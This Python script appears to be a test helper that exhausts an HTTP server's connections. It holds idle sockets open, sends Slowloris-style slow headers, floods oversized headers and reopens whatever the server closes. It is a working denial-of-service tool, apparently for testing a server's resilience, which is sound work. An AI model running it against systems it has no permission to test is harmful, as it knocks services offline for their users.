#!/usr/bin/env python3
"""Holds connections to a server open the way an attacker on the same machine
(or a web page) would, from a process of its own:

  hold_connections.py HOST PORT IDLE SLOW [HEADER_BYTES CONNS]

IDLE connections send nothing; SLOW connections send a request line and then
one header line every 2 s, never finishing the head. With HEADER_BYTES,
CONNS further connections each send a request whose headers total
HEADER_BYTES (or until the server stops reading). Prints "ready IDLE SLOW"
once every connection is open, then holds them until killed; a connection
the server closes is opened again."""
import resource
import selectors
import socket
import sys
import threading
import time

host, port = sys.argv[1], int(sys.argv[2])
idle, slow = int(sys.argv[3]), int(sys.argv[4])
header_bytes = int(sys.argv[5]) if len(sys.argv) > 5 else 0
header_conns = int(sys.argv[6]) if len(sys.argv) > 6 else 0

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
want = idle + slow + header_conns + 64
if soft < want:
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(want, soft)), hard))


def connect():
    s = socket.create_connection((host, port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


idle_socks = [connect() for _ in range(idle)]
slow_socks = []
for _ in range(slow):
    s = connect()
    s.sendall(b"GET /healthz HTTP/1.1\r\nHost: %s:%d\r\n" % (host.encode(), port))
    slow_socks.append(s)


def flood(results, i):
    # Sends headers until HEADER_BYTES are out or the server refuses more.
    s = connect()
    sent = 0
    line = b"X-Filler: " + b"a" * 1000 + b"\r\n"
    try:
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: %s:%d\r\n" % (host.encode(), port))
        s.settimeout(10)
        give_up = time.monotonic() + 20
        while sent < header_bytes and time.monotonic() < give_up:
            s.sendall(line * 64)
            sent += len(line) * 64
        s.sendall(b"\r\n")
        answer = s.recv(200)
    except OSError:
        answer = b""
    results[i] = (sent, answer.split(b"\r\n", 1)[0].decode("latin-1"))
    s.close()


if header_conns:
    results = [None] * header_conns
    threads = [threading.Thread(target=flood, args=(results, i)) for i in range(header_conns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    for sent, status in results:
        print("flood sent=%d answer=%r" % (sent, status), flush=True)

if not idle_socks and not slow_socks:
    sys.exit(0)
print("ready %d %d" % (len(idle_socks), len(slow_socks)), flush=True)
# A real attacker reconnects what the server closes, so the pressure holds.
sel = selectors.DefaultSelector()
for s in idle_socks:
    sel.register(s, selectors.EVENT_READ)
reopened = 0
while True:
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        for key, _ in sel.select(timeout=max(0, deadline - time.monotonic())):
            sel.unregister(key.fileobj)
            key.fileobj.close()
            s = connect()
            sel.register(s, selectors.EVENT_READ)
            reopened += 1
    for i, s in enumerate(slow_socks):
        try:
            s.sendall(b"X-Slow: 1\r\n")
        except OSError:
            s.close()
            s = connect()
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: %s:%d\r\n" % (host.encode(), port))
            slow_socks[i] = s
            reopened += 1
    if reopened:
        print("reopened %d connections the server closed" % reopened, file=sys.stderr, flush=True)
